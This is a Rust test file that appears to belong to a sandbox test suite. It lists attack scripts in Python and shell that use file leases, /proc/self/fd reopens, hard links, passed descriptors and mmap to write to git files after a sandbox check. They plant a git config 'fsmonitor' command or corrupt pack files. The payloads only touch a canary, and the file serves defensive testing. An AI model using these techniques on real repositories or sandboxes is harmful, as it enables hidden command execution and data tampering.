//! Descriptors, leases and second names by which a file could be written after it was judged.
//!
//! Each is laid like the other traps: without a sandbox it must fire, and inside the user's git must do nothing of it afterwards.

use crate::traps::{Trap, check};

/// Opens a file for writing while the attacker's own lease is on it, and takes the lease anew in a loop: a fresh one does not hinder
/// another lease. `parked` returns once the open has begun to wait.
macro_rules! leases {
    () => {
        "import os, fcntl, threading, signal, time, glob, subprocess, zlib, sys
signal.signal(signal.SIGIO, signal.SIG_IGN); sys.setswitchinterval(0.0002)
got, is_over, path = [], False, None
def lease(kind):
    try: fcntl.fcntl(ro, fcntl.F_SETLEASE, kind)
    except OSError: pass
def call(act):
    try: got.append(act())
    except OSError as error: print(error)
def relock():
    while not is_over: lease(fcntl.F_UNLCK); lease(fcntl.F_RDLCK)
def parked(at, act):
    global path, ro, waiting
    path = at; ro = os.open(path, os.O_RDONLY); fcntl.fcntl(ro, fcntl.F_SETLEASE, fcntl.F_RDLCK)
    waiting = threading.Thread(target=call, args=(act,)); waiting.start()
    end = time.monotonic() + 20
    while fcntl.fcntl(ro, fcntl.F_GETLEASE) == fcntl.F_RDLCK and time.monotonic() < end: pass
    threading.Thread(target=relock, daemon=True).start()
def many(act):
    for turn in range(60):
        try: return act()
        except OSError as error: last = error
    print(last)
def released():
    global is_over
    is_over = True; end = time.monotonic() + 20
    while waiting.is_alive() and time.monotonic() < end: lease(fcntl.F_UNLCK); waiting.join(0.01)
"
    };
}

/// The start of a directory that is about to become a git directory.
macro_rules! forming {
    () => {
        "os.makedirs(\"X/objects\"); os.makedirs(\"X/refs/heads\"); os.makedirs(\"sub\")
OK = \"[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\"
EVIL = OK + \"\\tfsmonitor = touch CANARY; false\\n\"
def head():
    fd = os.open(\"X/HEAD\", os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644); os.write(fd, b\"ref: refs/heads/main\\n\"); os.close(fd)
def uses():
    open(\"sub/.git\", \"w\").write(\"gitdir: ../X\\n\")
"
    };
}

/// A pack of the file `file`, under temporary names beside the user's.
macro_rules! packed {
    () => {
        "subprocess.run(\"git rev-parse HEAD:file | git pack-objects -q pk\", shell=True)
pk = glob.glob(\"pk-*.pack\")[0]; h = pk[3:-5]; d = \".git/objects/pack/\"
os.makedirs(d, exist_ok=True)
open(d + \"tmp_pack_abc\", \"wb\").write(open(pk, \"rb\").read()); open(d + \"tmp_idx_abc\", \"wb\").write(open(\"pk-%s.idx\" % h, \"rb\").read())
def land(ending):
    many(lambda: os.rename(d + \"tmp_\" + ending.replace(\"pack\", \"pack_abc\").replace(\"idx\", \"idx_abc\"), d + \"pack-%s.%s\" % (h, ending)))
"
    };
}

/// `file` as the user committed it.
const COMMITTED: &str = "git cat-file blob HEAD:file > want";
/// Takes `file` from the objects.
const CHECKS_OUT: &str = "rm file; git checkout -q -- file; cmp -s want file || touch CANARY";

const TRAPS: &[Trap] = &[
    Trap {
        sentence: "a1: an open that waits for a lease goes on when the file is the settings of a git directory",
        before: "",
        attack: concat!(
            "python3 -c '",
            leases!(),
            forming!(),
            "open(\"X/config\", \"w\").write(OK)
parked(\"X/config\", lambda: os.open(\"X/config\", os.O_RDWR))
many(head); released()
for fd in got: os.pwrite(fd, EVIL.encode(), 0); os.close(fd)
uses()'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: the same, by an open through /proc/self/fd",
        before: "",
        attack: concat!(
            "python3 -c '",
            leases!(),
            forming!(),
            "open(\"X/config\", \"w\").write(OK); own = os.open(\"X/config\", os.O_RDONLY)
parked(\"X/config\", lambda: os.open(\"/proc/self/fd/%d\" % own, os.O_WRONLY | os.O_APPEND))
many(head); released()
for fd in got: os.write(fd, EVIL.encode()); os.close(fd)
uses()'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: an open that waits for a lease of another process, by a name that is gone",
        before: "",
        attack: concat!(
            "python3 -c '",
            leases!(),
            forming!(),
            "open(\"plain\", \"w\").write(OK); pipe = os.pipe()
parked(\"plain\", lambda: os.open(\"plain\", os.O_RDWR))
child = os.fork()
if child == 0:
    os.link(\"plain\", \"X/config\"); os.unlink(\"plain\"); many(head); os._exit(0)
os.waitpid(child, 0); released()
for fd in got: os.pwrite(fd, EVIL.encode(), 0); os.close(fd)
uses()'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: settings are written through a descriptor by whose name they are no longer there",
        before: "",
        attack: concat!(
            "python3 -c 'import os\n",
            forming!(),
            "open(\"plain\", \"w\").write(OK); fd = os.open(\"plain\", os.O_RDONLY)
os.link(\"plain\", \"X/config\"); os.unlink(\"plain\"); head()
try: writes = os.open(\"/proc/self/fd/%d\" % fd, os.O_RDWR); os.pwrite(writes, EVIL.encode(), 0)
except OSError as error: print(error)
uses()'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a1: settings get a second name through such a descriptor",
        before: "",
        attack: concat!(
            "python3 -c 'import os, ctypes\n",
            forming!(),
            "open(\"plain\", \"w\").write(OK); fd = os.open(\"plain\", os.O_RDONLY)
os.link(\"plain\", \"X/config\"); os.unlink(\"plain\"); head()
ctypes.CDLL(None).linkat(-100, b\"/proc/self/fd/%d\" % fd, -100, b\"alias\", 0x400)
try: open(\"alias\", \"r+\").write(EVIL)
except OSError as error: print(error)
uses()'"
        ),
        user: "cd sub && git status",
    },
    Trap {
        sentence: "a8: an open that waits for a lease goes on when the file is a pack",
        before: COMMITTED,
        attack: concat!(
            "python3 -c '",
            leases!(),
            packed!(),
            "parked(d + \"tmp_pack_abc\", lambda: os.open(path, os.O_RDWR))
land(\"pack\"); land(\"idx\"); released()
for fd in got: os.pwrite(fd, zlib.compress(b\"EVL\\n\"), 13); os.close(fd)'"
        ),
        user: CHECKS_OUT,
    },
    Trap {
        sentence: "a8: a truncate that waits for a lease goes on when the file is a pack",
        before: COMMITTED,
        attack: concat!(
            "python3 -c '",
            leases!(),
            packed!(),
            "parked(d + \"tmp_pack_abc\", lambda: os.truncate(path, 12))
land(\"pack\"); land(\"idx\"); released()'"
        ),
        user: "for index in .git/objects/pack/*.idx; do test ! -e $index || git verify-pack $index || touch CANARY; done",
    },
    Trap {
        sentence: "a8: an open that cuts short waits for a lease until the file is a pack",
        before: COMMITTED,
        attack: concat!(
            "python3 -c '",
            leases!(),
            packed!(),
            "parked(d + \"tmp_pack_abc\", lambda: os.open(path, os.O_WRONLY | os.O_TRUNC))
land(\"pack\"); land(\"idx\"); released()'"
        ),
        user: "for index in .git/objects/pack/*.idx; do test ! -e $index || git verify-pack $index || touch CANARY; done",
    },
    Trap {
        sentence: "a8: a descriptor that was sent to another process and a mapping stay open while the file becomes a pack",
        before: COMMITTED,
        attack: concat!(
            "python3 -c '",
            leases!(),
            packed!(),
            "import socket, mmap
fd = os.open(d + \"tmp_pack_abc\", os.O_RDWR); near, far = socket.socketpair(socket.AF_UNIX)
socket.send_fds(near, [b\"x\"], [fd]); os.close(fd)
land(\"pack\"); land(\"idx\"); fd = socket.recv_fds(far, 1, 1)[1][0]
view = mmap.mmap(fd, 0); os.close(fd)
land(\"pack\"); land(\"idx\"); new = zlib.compress(b\"EVL\\n\"); view[13:13 + len(new)] = new'"
        ),
        user: CHECKS_OUT,
    },
    Trap {
        sentence: "a8: what helps to read a pack of the user's is replaced or planted",
        before: "git -c pack.writeReverseIndex=true gc -q; sha256sum .git/objects/pack/* > CANARY.sums",
        attack: "for pack in .git/objects/pack/*.pack; do for ending in rev bitmap mtimes keep promisor; do
                head -c 2000 /dev/zero > x; mv -f x ${pack%.pack}.$ending; echo y > ${pack%.pack}.$ending
                cp x .git/objects/pack/tmp_x; mv -f .git/objects/pack/tmp_x ${pack%.pack}.$ending
            done; done
            h=0123456789012345678901234567890123456789; for ending in rev bitmap mtimes promisor; do
                echo x > x; mv x .git/objects/pack/pack-$h.$ending; echo x > .git/objects/pack/pack-$h.$ending
            done",
        user: "sha256sum .git/objects/pack/* | diff - CANARY.sums || touch CANARY",
    },
    Trap {
        sentence: "a8: another pack takes the name of one whose reverse index stays",
        before: "git -c pack.writeReverseIndex=true gc -q; rm -f .git/objects/pack/*.bitmap",
        attack: concat!(
            "python3 -c '",
            leases!(),
            packed!(),
            "user = glob.glob(d + \"pack-*.rev\")[0][:-4]
for ending in (\"idx\", \"pack\"): os.unlink(user + \".\" + ending)
h = user.split(\"-\")[-1]; land(\"pack\"); land(\"idx\")'"
        ),
        user: "for rev in .git/objects/pack/*.rev; do test ! -e $rev || test ! -e ${rev%.rev}.idx || git fsck --full || touch CANARY; done",
    },
    Trap {
        sentence: "a1: a second name of the file that names the git directory of a work tree",
        before: "mkdir CANARY.d; cd CANARY.d; mkdir objects refs; echo ref: refs/heads/main > HEAD
            printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = touch CANARY; false\\n' > config",
        attack: "mkdir s; echo 'gitdir: ../.git' > f; mv f s/.git; ln s/.git s/f; echo 'gitdir: CANARY.d' > s/f
            mkdir t; echo 'gitdir: ../.git' > t/f; ln t/f t/.git; echo 'gitdir: CANARY.d' > t/f",
        user: "(cd s && git status); cd t && git status",
    },
];

#[test]
fn what_is_written_by_a_descriptor_a_lease_or_a_second_name() {
    check(TRAPS);
}
